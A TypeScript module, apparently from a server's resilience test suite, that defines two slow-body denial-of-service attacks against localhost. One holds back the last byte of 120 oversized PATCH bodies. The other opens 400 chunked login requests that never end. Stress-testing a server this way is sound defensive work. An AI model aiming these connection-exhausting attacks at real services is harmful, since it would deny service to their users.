import type { Attack } from './attack.ts'
import { AttackerConnection, combineConnections } from './attacker-connection.ts'

const CONNECTIONS = 120
const BYTES = 16_000_000
const SLOW_CONNECTIONS = 400
const SLOW_BYTES_EACH = 60_000

/** Sends almost all of a large body, and then nothing more. */
export const heldBodies: Attack = {
  name: 'held-bodies',
  description: `${CONNECTIONS} bodies of 16 MB to Modify Current User, the last byte of each held back`,
  launch: async ({ ports, memberToken }) => {
    const head = `PATCH /api/v10/users/@me HTTP/1.1\r\nHost: localhost\r\nAuthorization: ${memberToken}\r\nContent-Type: application/json\r\nContent-Length: ${BYTES}\r\n\r\n`
    const body = Buffer.from(`{"avatar":"${'A'.repeat(BYTES - 12)}`)
    const connections = Array.from(
      { length: CONNECTIONS },
      (_, n) => new AttackerConnection(ports[n % ports.length] ?? 0),
    )
    await Promise.all(connections.map((each) => each.send(head, body)))
    return combineConnections(connections)
  },
}

/** Sends the beginning of many small bodies to an operation without authentication. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  description: `${SLOW_CONNECTIONS} bodies to Sign In that never end`,
  launch: async ({ ports }) => {
    const head =
      'POST /api/v10/auth/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n'
    const chunk = `${SLOW_BYTES_EACH.toString(16)}\r\n${' '.repeat(SLOW_BYTES_EACH)}\r\n`
    const connections = Array.from(
      { length: SLOW_CONNECTIONS },
      (_, n) => new AttackerConnection(ports[n % ports.length] ?? 0),
    )
    await Promise.all(connections.map((each) => each.send(head + chunk)))
    return combineConnections(connections)
  },
}
